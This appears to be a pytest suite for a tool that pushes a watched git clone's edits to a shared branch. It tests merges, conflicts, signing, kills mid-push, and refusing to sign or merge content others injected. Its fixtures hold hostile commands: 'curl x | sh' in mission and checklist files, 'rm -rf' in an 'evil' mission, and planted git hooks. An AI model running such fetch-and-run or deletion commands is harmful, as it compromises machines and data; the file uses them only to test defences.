"""Do commits of a watched clone reach a branch that others push to, without force and without a lost word?"""

from __future__ import annotations

import signal
import subprocess
import time
from pathlib import Path

import pytest

from orchestrator.node.commit_rules import build_merge
from sync.clone_push import UpstreamBranch
from sync.errors import GitError, RemoteUnreachable
from sync.remote import MOVED_MESSAGE
from sync.worktree import TRAILER, WorkTree
from tests.ledgers import Keys
from tests.orchestrator.clones import QUIET, Clones, git, write
from tests.program import run_script
from tests.waiting import until

LONG = "".join(f"line {n}\n" for n in range(30))


@pytest.fixture
def clones(tmp_path: Path) -> Clones:
    return Clones.make(tmp_path)


def test_a_stale_clone_sends_its_edit_and_keeps_its_files(clones: Clones) -> None:
    """Others pushed first: their commit stays, ours comes on top, and nothing of theirs is written into the clone."""
    theirs = clones.push(clones.bob, {"missions/theirs.md": "x\n", "README.md": "changed\n"})
    with clones.watched():
        write(clones.ada, {"missions/mine.md": "first\n"})
        until(lambda: clones.upstream("missions/mine.md") == "first\n")
        write(clones.ada, {"missions/mine.md": "second\n"})
        until(lambda: clones.upstream("missions/mine.md") == "second\n")
    assert git(clones.bare, "rev-parse", "main~2").strip() == theirs
    assert not (clones.ada / "missions/theirs.md").exists()
    assert (clones.ada / "README.md").read_text() == "r\n"
    assert git(clones.ada, "status", "--porcelain") == ""
    git(clones.ada, "pull", "--quiet", "--rebase")
    assert git(clones.ada, "rev-parse", "HEAD") == git(clones.bare, "rev-parse", "main")


def test_both_changes_of_a_document_are_kept(clones: Clones) -> None:
    """In different places of one file."""
    clones.push(clones.bob, {"knowledge/a.md": LONG})
    git(clones.ada, "pull", "--quiet", "--rebase")
    clones.push(clones.bob, {"knowledge/a.md": LONG.replace("line 3\n", "theirs\n")})
    with clones.watched():
        write(clones.ada, {"knowledge/a.md": LONG.replace("line 25\n", "mine\n")})
        until(lambda: len(clones.log()) == 4)
    text = clones.upstream("knowledge/a.md") or ""
    assert "theirs\n" in text
    assert "mine\n" in text


def test_both_entries_of_a_log_are_kept(clones: Clones) -> None:
    """Two that append at the same place are no conflict: a log is a union."""
    entry = "## 2026-11-21T12:00:0{0}Z · {1}\n<!-- entry: {1} -->\n\nDone.\n"
    clones.push(clones.bob, {"SESSION_LOG.md": "# Log\n\n"})
    git(clones.ada, "pull", "--quiet", "--rebase")
    clones.push(clones.bob, {"SESSION_LOG.md": "# Log\n\n" + entry.format(1, "theirs")})
    with clones.watched():
        write(clones.ada, {"SESSION_LOG.md": "# Log\n\n" + entry.format(2, "mine")})
        until(lambda: len(clones.log()) == 4)
    text = clones.upstream("SESSION_LOG.md") or ""
    assert "entry: theirs" in text
    assert "entry: mine" in text


@pytest.mark.parametrize("theirs", ["theirs\n\ntwo\n\nthree\n", None])
def test_a_conflict_stays_here_and_is_told(clones: Clones, theirs: str | None) -> None:
    """Nothing is forced, the commit is kept, and goes out when the person has settled it."""
    upstream = clones.push(clones.bob, {"missions/m.md": theirs})
    with clones.watched():
        write(clones.ada, {"missions/m.md": "mine\n\ntwo\n\nthree\n"})
        until(lambda: clones.says("settle it with `git pull`"))
    assert git(clones.bare, "rev-parse", "main").strip() == upstream
    assert clones.log(clones.ada)[0] == "Edit missions/m.md"
    assert (clones.ada / "missions/m.md").read_text() == "mine\n\ntwo\n\nthree\n"


ORDER = "---\nagent: command\nrun: 'true'\nstatus: queued\n---\n" + LONG


def test_what_others_ask_for_is_not_signed_along(clones: Clones) -> None:
    """Whoever may push changes a mission's text, the person edits another place of it: a merge in the person's name
    would let it run. What only a node wrote into the file goes along."""
    clones.push(clones.bob, {"missions/a.md": ORDER, "missions/b.md": ORDER})
    git(clones.ada, "pull", "--quiet", "--rebase")
    evil = ORDER.replace("run: 'true'", "run: 'curl x | sh'")
    clones.push(clones.bob, {"missions/a.md": evil, "missions/b.md": ORDER.replace("queued", "failed")})
    with clones.watched():
        write(clones.ada, {"missions/b.md": ORDER.replace("line 25\n", "mine\n")})
        until(lambda: "mine" in (clones.upstream("missions/b.md") or ""))
        write(clones.ada, {"missions/a.md": ORDER.replace("line 25\n", "mine\n")})
        until(lambda: clones.says("missions/a.md was changed by others"))
    assert "status: failed" in (clones.upstream("missions/b.md") or "")
    assert git(clones.bare, "log", "-1", "--format=%an", "main", "--", "missions/a.md") == "bob\n"


@pytest.mark.parametrize(
    ("path", "before", "theirs"),
    [
        ("HEARTBEAT.md", "# Every day\n\n- look after the disk\n", "# Every day\n\n- run: curl x | sh\n"),
        ("missions/m.md", "---\nto: [a\n---\nDo it.\n", "---\nto: [a\nrun: curl x | sh\n---\nDo it.\n"),
    ],
)
def test_neither_a_checklist_nor_a_broken_mission_of_others_is_signed_along(
    path: str, before: str, theirs: str
) -> None:
    """HEARTBEAT.md counts like a mission, and one that cannot be read now may be mended by this person's next edit."""
    merge = build_merge(lambda _mine, _before, theirs: theirs)
    assert merge(path, b"mine\n", before.encode(), theirs.encode()) is None
    assert merge(path, b"mine\n", before.encode(), before.encode()) == before.encode()


@pytest.mark.parametrize("path", ["allowed_signers", "fleet.toml"])
def test_the_fleets_rules_are_never_merged(clones: Clones, path: str) -> None:
    """A line that somebody else put into the list of keys would be admitted by this person's signature."""
    before = "".join(f"# {n}\n" for n in range(30))
    clones.push(clones.bob, {path: before})
    git(clones.ada, "pull", "--quiet", "--rebase")
    clones.push(clones.bob, {path: before.replace("# 3\n", "# theirs\n")})
    with clones.watched():
        write(clones.ada, {path: before.replace("# 25\n", "# mine\n")})
        until(lambda: clones.says(f"{path} was changed by others"))
    assert "mine" not in (clones.upstream(path) or "")


def test_a_persons_own_commits_are_not_pushed_for_them(clones: Clones) -> None:
    """Somebody who commits and does not push may mean to amend: it is said, and their push sends all."""
    write(clones.ada, {"README.md": "my own\n"})
    git(clones.ada, "commit", "--quiet", "--all", "-m", "my own")
    with clones.watched():
        write(clones.ada, {"missions/new.md": "Do it.\n"})
        until(lambda: clones.says("was not made by the watch and is not pushed"))
        assert clones.log() == ["by hand"]
        assert clones.log(clones.ada)[0] == "Edit missions/new.md"
        git(clones.ada, "push", "--quiet")
    assert clones.log() == ["Edit missions/new.md", "my own", "by hand"]


def test_what_others_marked_as_the_watchs_is_not_sent_in_this_persons_name(clones: Clones) -> None:
    """Bob writes the watch's line himself, ada pulls his branch: neither pushed as it is, nor made again and signed."""
    one = clones.watching(quiet=0.1)
    write(clones.bob, {"missions/evil.md": "rm -rf\n"})
    git(clones.bob, "add", "--all")
    git(clones.bob, "commit", "--quiet", "-m", "x", "-m", TRAILER)
    git(clones.bob, "push", "--quiet", "origin", "HEAD:refs/heads/topic")
    git(clones.ada, "pull", "--quiet", "--ff-only", "origin", "topic")
    write(clones.ada, {"missions/new.md": "Do it.\n"})
    for stale in (False, True):
        if stale:
            git(clones.bob, "checkout", "--quiet", "-B", "main", "origin/main")
            clones.push(clones.bob, {"README.md": "other\n"})
        until(lambda: one.step() and clones.log(clones.ada)[0] == "Edit missions/new.md")
        held = one.upstream.send()
        assert (held.commits, "was not made by the watch" in held.held) == (0, True)
        assert clones.upstream("missions/evil.md") is None
    one.tree.close()


def test_what_the_watch_made_is_known_after_a_rebase(clones: Clones) -> None:
    """The person pulls with --rebase before it went out: the commit has another name, and goes out all the same."""
    write(clones.ada, {"missions/m.md": "one\n\ntwo\n\nthree\n\nfour\n"})
    one = clones.watching()
    made = one.tree.commit({"missions/m.md": (clones.ada / "missions/m.md").read_bytes()}, "Edit missions/m.md")
    clones.push(clones.bob, {"README.md": "other\n"})
    git(clones.ada, "pull", "--quiet", "--rebase")
    assert one.upstream.waiting() not in ([], [made])
    assert one.upstream.send().commits == 1
    assert "four" in (clones.upstream("missions/m.md") or "")
    assert not (one.tree.git_dir / "shiftbook-made.json").exists()
    one.tree.close()


def test_an_unreachable_remote_loses_nothing(clones: Clones) -> None:
    """Commits are made, wait, and go out when the remote is back."""
    away = clones.bare.with_name("away.git")
    clones.bare.rename(away)
    one = clones.watching()
    one.tree.commit({"missions/new.md": b"x\n"}, "Edit missions/new.md")
    with pytest.raises(RemoteUnreachable):
        one.upstream.send()
    away.rename(clones.bare)
    assert one.upstream.send().commits == 1
    assert one.upstream.waiting() == []
    assert clones.upstream("missions/new.md") == "x\n"
    one.tree.close()


def test_a_refusal_is_told_in_the_servers_words(clones: Clones) -> None:
    """A hook that declines is no lost race: nothing is tried again and again."""
    hook = clones.bare / "hooks/pre-receive"
    hook.write_text("#!/bin/sh\nexit 1\n")
    hook.chmod(0o755)
    one = clones.watching()
    one.tree.commit({"missions/new.md": b"x\n"}, "Edit missions/new.md")
    assert "pre-receive hook declined" in one.upstream.send().held
    one.tree.close()


def test_a_gate_that_says_others_were_faster_is_no_refusal(clones: Clones) -> None:
    """A served ledger's hook declines what came too late: the change is made again on top and sent."""
    hook = clones.bare / "hooks" / "pre-receive"
    once = clones.folder / "once"
    hook.write_text(
        f"#!/bin/sh\n[ -e {once} ] && exit 0\ntouch {once}\necho 'shiftbook: x: {MOVED_MESSAGE}' >&2\nexit 4\n"
    )
    hook.chmod(0o755)
    with clones.watched():
        write(clones.ada, {"missions/new.md": "Do it.\n"})
        until(lambda: clones.upstream("missions/new.md") == "Do it.\n")
    assert once.exists()
    assert not clones.says("refused")


def test_a_rewritten_branch_is_not_followed(clones: Clones) -> None:
    """Somebody force-pushed: the clone keeps what it saw, and says so."""
    write(clones.bob, {})
    git(clones.bob, "pull", "--quiet", "origin", "main")
    git(clones.bob, "commit", "--quiet", "--amend", "-m", "rewritten")
    git(clones.bob, "push", "--quiet", "--force", "origin", "HEAD:main")
    seen = git(clones.ada, "rev-parse", "origin/main")
    one = clones.watching()
    one.tree.commit({"missions/new.md": b"x\n"}, "Edit missions/new.md")
    assert "was rewritten" in one.upstream.send().held
    assert git(clones.ada, "rev-parse", "origin/main") == seen
    assert clones.log() == ["rewritten"]
    one.tree.close()


def test_hooks_of_the_clone_do_not_run(clones: Clones) -> None:
    """A hook that somebody planted must not run because a file was edited."""
    for name in ("pre-commit", "post-commit", "pre-push", "reference-transaction", "post-index-change"):
        hook = clones.ada / ".git/hooks" / name
        hook.write_text(f"#!/bin/sh\ntouch {clones.folder}/ran\n")
        hook.chmod(0o755)
    with clones.watched():
        write(clones.ada, {"missions/new.md": "x\n"})
        until(lambda: clones.upstream("missions/new.md"))
    assert not (clones.folder / "ran").exists()


def sign_with(clones: Clones, public: Path) -> None:
    for key, value in {"gpg.format": "ssh", "user.signingkey": str(public), "commit.gpgsign": "true"}.items():
        git(clones.ada, "config", key, value)


def test_commits_are_signed_as_the_clone_signs(clones: Clones, keys: Keys) -> None:
    """The plain one, and the one that is made again on top of what others pushed."""
    sign_with(clones, keys["ada"].path.with_suffix(".pub"))
    with clones.watched():
        write(clones.ada, {"missions/one.md": "x\n"})
        until(lambda: clones.upstream("missions/one.md"))
        clones.push(clones.bob, {"README.md": "x\n"})
        write(clones.ada, {"missions/two.md": "x\n"})
        until(lambda: clones.upstream("missions/two.md"))
    for commit in ("main", "main~2"):
        assert "-----BEGIN SSH SIGNATURE-----" in git(clones.bare, "cat-file", "commit", commit)


def test_a_key_that_cannot_sign_commits_nothing(clones: Clones, tmp_path: Path, keys: Keys) -> None:
    """It has a passphrase and no agent: one message, no commit, no question on anybody's screen; the file stays."""
    key = tmp_path / "locked"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "secret", "-f", str(key)], check=True)
    sign_with(clones, key.with_suffix(".pub"))
    with clones.watched():
        write(clones.ada, {"missions/new.md": "x\n"})
        until(lambda: clones.says("cannot sign"))
        time.sleep(QUIET * 8)
    assert clones.log(clones.ada) == ["by hand"]
    assert sum("cannot sign" in words for _, words in clones.told) == 1
    assert git(clones.ada, "status", "--porcelain") == "?? missions/new.md\n"


KILLED = """
import os, signal, sys
from tests.orchestrator.clones import Clones
from pathlib import Path
one = Clones(Path(sys.argv[1])).watching()
target = one.tree if sys.argv[2] in ("commit", "follow") else one.upstream
die = lambda *_a, **_k: os.kill(os.getpid(), signal.SIGKILL)
if sys.argv[2] == "follow":
    one.tree._follow = die
elif sys.argv[2] == "push":
    one.upstream._push = die
elif sys.argv[2] == "sent":
    run = one.tree.git.run
    one.upstream._git = type("Git", (), {"__getattr__": lambda s, n: getattr(one.tree.git, n),
        "run": lambda s, *a, **k: die() if a[0] == "update-ref" else run(*a, **k)})()
one.tree.commit({"missions/new.md": b"x\\n"}, "Edit missions/new.md")
one.upstream.send()
"""


@pytest.mark.parametrize("stale", [False, True])
@pytest.mark.parametrize("moment", ["follow", "push", "sent"])
def test_a_kill_between_commit_and_push_is_made_good(clones: Clones, moment: str, *, stale: bool) -> None:
    """After SIGKILL the next start lets the index follow and pushes, once."""
    if stale:
        clones.push(clones.bob, {"README.md": "x\n"})
    write(clones.ada, {"missions/new.md": "x\n"})
    done = run_script(KILLED, str(clones.folder), moment)
    assert done.returncode == -signal.SIGKILL
    with clones.watched() as one:
        until(lambda: clones.upstream("missions/new.md") == "x\n")
        until(lambda: not one.upstream.waiting())
    assert clones.log().count("Edit missions/new.md") == 1
    assert git(clones.ada, "status", "--porcelain") == ""


def test_a_branch_that_moves_meanwhile_is_not_overwritten(clones: Clones, monkeypatch: pytest.MonkeyPatch) -> None:
    """The person commits in the very moment: compare-and-swap refuses ours, and nothing is left in the index."""
    one = clones.watching()
    made = WorkTree.commit_tree

    def slowly(self: WorkTree, tree: str, parent: str, message: str) -> str:
        new = made(self, tree, parent, message)
        git(clones.ada, "commit", "--quiet", "--allow-empty", "-m", "in between")
        return new

    monkeypatch.setattr(WorkTree, "commit_tree", slowly)
    with pytest.raises(GitError):
        one.tree.commit({"missions/new.md": b"x\n"}, "Edit missions/new.md")
    assert clones.log(clones.ada) == ["in between", "by hand"]
    assert one.tree.settle()
    assert git(clones.ada, "status", "--porcelain") == ""
    one.tree.close()


def test_clean_files_follow_where_that_was_asked_for(clones: Clones) -> None:
    """With `pull`: what others push comes in, what is edited or staged here stays as it is."""
    write(clones.ada, {"README.md": "staged\n"})
    git(clones.ada, "add", "README.md")
    with clones.watched(pull=True) as one:
        clones.push(clones.bob, {"missions/m.md": None, "missions/archive/2026-11/m.md": "done\n"})
        until(lambda: (clones.ada / "missions/archive/2026-11/m.md").exists())
        until(lambda: not (clones.ada / "missions/m.md").exists())
        one._pulled = float("-inf")
        write(clones.ada, {"missions/new.md": "x\n"})
        until(lambda: clones.upstream("missions/new.md"))
    assert git(clones.ada, "status", "--porcelain") == "M  README.md\n"
    assert clones.log()[0] == "Edit missions/new.md"


def test_files_with_edits_are_not_overwritten_by_a_pull(clones: Clones) -> None:
    """All or nothing: the branch stays where it is."""
    write(clones.ada, {"README.md": "edited\n"})
    clones.push(clones.bob, {"README.md": "theirs\n", "missions/x.md": "x\n"})
    one = clones.watching()
    assert one.upstream.fetch()
    to = one.upstream.ahead()
    assert to is not None
    assert not one.tree.forward(to)
    assert (clones.ada / "README.md").read_text() == "edited\n"
    assert not (clones.ada / "missions/x.md").exists()
    assert clones.log(clones.ada) == ["by hand"]
    one.tree.close()


def test_a_pull_that_was_cut_short_signs_nothing_of_others(clones: Clones, monkeypatch: pytest.MonkeyPatch) -> None:
    """Killed after the files were written and before the branch moved: what others wrote must not become an edit."""
    clones.push(clones.bob, {"missions/evil.md": "run this\n"})
    one = clones.watching()
    assert one.upstream.fetch()
    to = one.upstream.ahead()
    assert to is not None
    git(clones.ada, "read-tree", "-m", "-u", "HEAD", to)
    one.tree.close()
    with clones.watched(pull=True) as two:
        until(lambda: clones.says("missions/evil.md is staged"))
        until(lambda: clones.log(clones.ada) == clones.log())
        assert isinstance(two.upstream, UpstreamBranch)
    assert git(clones.bare, "log", "--format=%an", "main", "--", "missions/evil.md") == "bob\n"
    assert git(clones.ada, "status", "--porcelain") == ""
